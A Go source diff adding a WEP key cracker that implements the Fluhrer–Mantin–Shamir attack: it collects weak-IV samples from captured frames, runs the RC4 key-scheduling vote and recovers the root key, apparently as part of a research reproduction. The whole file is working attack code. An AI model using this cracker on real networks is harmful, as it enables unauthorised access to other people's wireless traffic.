@@ -1,0 +1,224 @@
+package wep
+
+import (
+	"errors"
+)
+
+// SNAPFirstByte is the first plaintext byte of virtually every 802.11 data
+// frame: the LLC/SNAP DSAP octet 0xAA. Its predictability is what gives the
+// FMS attacker a known first keystream byte for every captured frame.
+const SNAPFirstByte = 0xaa
+
+// Sample is one captured frame's contribution to the FMS attack: its public
+// IV and the first RC4 keystream byte (derived from the known plaintext).
+type Sample struct {
+	IV IV
+	K0 byte // first keystream byte
+}
+
+// SampleFromSealed extracts a Sample from an on-air WEP payload, assuming
+// the first plaintext byte is firstPlain (use SNAPFirstByte for data frames).
+func SampleFromSealed(sealed []byte, firstPlain byte) (Sample, error) {
+	if len(sealed) < HeaderLen+1 {
+		return Sample{}, ErrShort
+	}
+	var iv IV
+	copy(iv[:], sealed[:IVLen])
+	return Sample{IV: iv, K0: sealed[HeaderLen] ^ firstPlain}, nil
+}
+
+// Cracker accumulates weak-IV samples and recovers the WEP root key with the
+// Fluhrer–Mantin–Shamir attack, the algorithm behind Airsnort. It recovers
+// key bytes in order: byte B needs samples with IV = (B+3, 255, x), and each
+// such "resolved" sample votes for a candidate value with ~5% advantage over
+// noise.
+type Cracker struct {
+	keyLen int
+	// samples[b] holds weak samples targeting key byte b.
+	samples [][]Sample
+	// Frames counts every frame offered, weak or not — the paper-relevant
+	// cost metric (how much traffic Airsnort must observe).
+	Frames uint64
+	// WeakFrames counts frames with FMS-weak IVs.
+	WeakFrames uint64
+	// Verify, if non-nil, is consulted with a candidate key and should
+	// report whether it decrypts real traffic (e.g. checks an ICV).
+	// Without it, RecoverKey trusts the vote winner.
+	Verify func(Key) bool
+}
+
+// NewCracker returns a cracker for keys of keyLen bytes (KeySize40 or
+// KeySize104).
+func NewCracker(keyLen int) *Cracker {
+	if keyLen != KeySize40 && keyLen != KeySize104 {
+		panic("wep: bad key length")
+	}
+	return &Cracker{keyLen: keyLen, samples: make([][]Sample, keyLen)}
+}
+
+// AddSample offers one captured sample to the cracker.
+func (c *Cracker) AddSample(s Sample) {
+	c.Frames++
+	b := int(s.IV[0]) - 3
+	if s.IV[1] != 0xff || b < 0 || b >= c.keyLen {
+		return
+	}
+	c.WeakFrames++
+	c.samples[b] = append(c.samples[b], s)
+}
+
+// AddSealed offers a full on-air WEP payload, assuming a SNAP first byte.
+func (c *Cracker) AddSealed(sealed []byte) {
+	s, err := SampleFromSealed(sealed, SNAPFirstByte)
+	if err != nil {
+		return
+	}
+	c.AddSample(s)
+}
+
+// ErrNotEnough is returned by RecoverKey when the vote is too thin to call.
+var ErrNotEnough = errors.New("wep: not enough weak-IV samples to recover key")
+
+// minVotes is the minimum number of resolved votes required before a key
+// byte is considered decided (without a Verify callback).
+const minVotes = 8
+
+// RecoverKey attempts to recover the root key from the accumulated samples.
+// With a Verify callback it searches the top vote candidates per byte;
+// without one it takes each byte's plurality winner.
+func (c *Cracker) RecoverKey() (Key, error) {
+	key := make(Key, c.keyLen)
+	cands := make([][]byte, c.keyLen)
+	for b := 0; b < c.keyLen; b++ {
+		ranked, total := c.voteByte(b, key[:b])
+		if total < minVotes {
+			return nil, ErrNotEnough
+		}
+		cands[b] = ranked
+		key[b] = ranked[0]
+	}
+	if c.Verify == nil {
+		return key, nil
+	}
+	if c.Verify(key) {
+		return key, nil
+	}
+	// Plurality failed: limited backtracking over the top few candidates of
+	// each byte. Votes must be recomputed when an earlier byte changes, so
+	// the search re-ranks lazily. A budget bounds the whole search so a
+	// thin, noisy sample set fails fast instead of exploring 3^keyLen
+	// combinations.
+	const width = 3
+	budget := 256 * c.keyLen
+	var search func(b int, prefix Key) (Key, bool)
+	search = func(b int, prefix Key) (Key, bool) {
+		if budget <= 0 {
+			return nil, false
+		}
+		budget--
+		if b == c.keyLen {
+			k := append(Key(nil), prefix...)
+			if c.Verify(k) {
+				return k, true
+			}
+			return nil, false
+		}
+		ranked, total := c.voteByte(b, prefix)
+		if total < minVotes {
+			return nil, false
+		}
+		n := width
+		if n > len(ranked) {
+			n = len(ranked)
+		}
+		for _, cand := range ranked[:n] {
+			if k, ok := search(b+1, append(prefix, cand)); ok {
+				return k, true
+			}
+		}
+		return nil, false
+	}
+	if k, ok := search(0, make(Key, 0, c.keyLen)); ok {
+		return k, nil
+	}
+	return nil, ErrNotEnough
+}
+
+// voteByte runs the FMS vote for key byte b given the already-recovered
+// prefix, returning candidate values ranked by vote count and the number of
+// resolved samples that voted.
+func (c *Cracker) voteByte(b int, prefix Key) ([]byte, int) {
+	var votes [256]int
+	total := 0
+	for _, s := range c.samples[b] {
+		if v, ok := fmsVote(s.IV, prefix, s.K0); ok {
+			votes[v]++
+			total++
+		}
+	}
+	ranked := make([]byte, 256)
+	for i := range ranked {
+		ranked[i] = byte(i)
+	}
+	// Selection-style ordering by descending votes (stable by value).
+	for i := 0; i < len(ranked); i++ {
+		best := i
+		for j := i + 1; j < len(ranked); j++ {
+			if votes[ranked[j]] > votes[ranked[best]] {
+				best = j
+			}
+		}
+		ranked[i], ranked[best] = ranked[best], ranked[i]
+	}
+	return ranked, total
+}
+
+// fmsVote simulates the first b+3 steps of the RC4 KSA with the known IV and
+// recovered key prefix, applies the FMS "resolved" condition, and if it
+// holds, derives the candidate value for key byte b implied by the observed
+// first keystream byte k0.
+func fmsVote(iv IV, prefix Key, k0 byte) (byte, bool) {
+	b := len(prefix)
+	known := make([]byte, 0, IVLen+b)
+	known = append(known, iv[:]...)
+	known = append(known, prefix...)
+	steps := b + 3
+
+	var s [256]int
+	for i := range s {
+		s[i] = i
+	}
+	j := 0
+	for i := 0; i < steps; i++ {
+		j = (j + s[i] + int(known[i])) & 0xff
+		s[i], s[j] = s[j], s[i]
+	}
+	// Resolved condition: the first output byte will, with ~e^-3
+	// probability, be the value swapped into position steps at the next KSA
+	// step, which exposes the key byte.
+	if s[1] >= steps {
+		return 0, false
+	}
+	if (s[1]+s[s[1]])&0xff != steps {
+		return 0, false
+	}
+	var inv [256]int
+	for i, v := range s {
+		inv[v] = i
+	}
+	vote := (inv[int(k0)] - j - s[steps]) & 0xff
+	return byte(vote), true
+}
+
+// FirstKeystreamByte computes only the first RC4 keystream byte for
+// IV||key — a fast path for experiment harnesses that must generate very
+// large captures without paying for full frame encryption.
+func FirstKeystreamByte(key Key, iv IV) byte {
+	perFrame := make([]byte, 0, IVLen+len(key))
+	perFrame = append(perFrame, iv[:]...)
+	perFrame = append(perFrame, key...)
+	c := NewRC4(perFrame)
+	var b [1]byte
+	c.XORKeyStream(b[:], b[:])
+	return b[0]
+}
